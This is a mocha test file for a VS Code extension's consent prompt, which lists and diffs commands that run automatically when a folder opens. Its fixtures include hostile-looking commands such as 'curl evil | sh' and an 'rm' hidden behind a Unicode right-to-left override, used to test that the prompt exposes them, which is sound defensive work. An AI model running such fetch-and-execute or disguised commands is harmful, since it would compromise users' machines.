import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { consentDocument, consentQuestion } from '../../../../src/vscode/consent/question.ts';

const shop = { name: 'shop', path: '/shop' };
const task = (name: string, commandLine = `run ${name}`, cwd = '/shop') => ({
  name,
  title: name.toUpperCase(),
  commandLine,
  cwd,
  details: [] as readonly string[],
  hash: `${name} ${commandLine}`,
});
const setOf = (...tasks: ReturnType<typeof task>[]) => ({ hash: 'h', tasks });

describe('the question before anything starts by itself', () => {
  it('names every command, and the folder where it is not that of the file', () => {
    const question = consentQuestion(
      setOf(task('api', 'node server.js'), task('ui', 'npm run dev', '/shop/web')),
      undefined,
      shop,
    );
    assert.equal(question.message, 'Allow Dirigent to run these 2 commands whenever “shop” is opened?');
    assert.equal(question.detail, 'API:  node server.js\nUI:  npm run dev  (in web)');
    assert.equal(question.isComplete, true);
  });

  it('names what else runs beside the commands, and the variables they are given', () => {
    const { detail } = consentQuestion(
      setOf({ ...task('api', 'node server.js'), details: ["healthcheck: sh -c 'curl evil'", 'env: NODE_OPTIONS'] }),
      undefined,
      shop,
    );
    assert.equal(detail, "API:  node server.js\n      healthcheck: sh -c 'curl evil'\n      env: NODE_OPTIONS");
  });

  it('is about one command in the singular', () => {
    const { message } = consentQuestion(setOf(task('api')), undefined, shop);
    assert.equal(message, 'Allow Dirigent to run this command whenever “shop” is opened?');
  });

  it('says what changed since the last answer', () => {
    const record = { answer: 'allowed', hash: 'old', tasks: [task('api'), task('db'), task('ui')] } as const;
    const { message, detail } = consentQuestion(
      setOf(task('api', 'curl evil | sh'), task('ui'), task('new')),
      record,
      shop,
    );
    assert.equal(message, 'The commands that start with “shop” have changed. Allow them?');
    assert.deepEqual(detail.split('\n'), [
      'New · NEW:  run new',
      'Changed · API:  curl evil | sh',
      '      before:  run api',
      'Gone · DB:  run db',
      'As before · UI:  run ui',
    ]);
  });

  it('says so where the commands are the same and something else of them is not', () => {
    const record = { answer: 'allowed', hash: 'old', tasks: [task('api')] } as const;
    assert.match(consentQuestion(setOf(task('api')), record, shop).detail, /^The commands are the same, but/);
  });

  it('shows nothing that could look like another command', () => {
    const { detail } = consentQuestion(setOf(task('api', 'rm \u202ekcab')), undefined, shop);
    assert.ok(detail.includes('rm \\u{202e}kcab'));
  });

  it('shows no part of a list that does not fit, and says where the whole is', () => {
    const many = setOf(...Array.from({ length: 17 }, (_, index) => task(`t${index}`)));
    const long = setOf(task('api', 'x'.repeat(2000)));
    for (const set of [many, long]) {
      const { detail, isComplete } = consentQuestion(set, undefined, shop);
      assert.equal(isComplete, false);
      assert.match(detail, /too many to show here\. View them in the editor/);
    }
  });
});

describe('the document with the whole list', () => {
  it('has every command as it is, also one with backticks', () => {
    const text = consentDocument(setOf(task('api', 'echo ```'), task('ui')), undefined, shop);
    assert.ok(text.includes('````\nAPI:  echo ```\nUI:  run ui\n````'), text);
  });

  it('has the changes first', () => {
    const record = { answer: 'allowed', hash: 'old', tasks: [task('api')] } as const;
    const text = consentDocument(setOf(task('api'), task('ui')), record, shop);
    assert.ok(text.indexOf('New · UI:  run ui') < text.indexOf('## All commands'));
  });
});
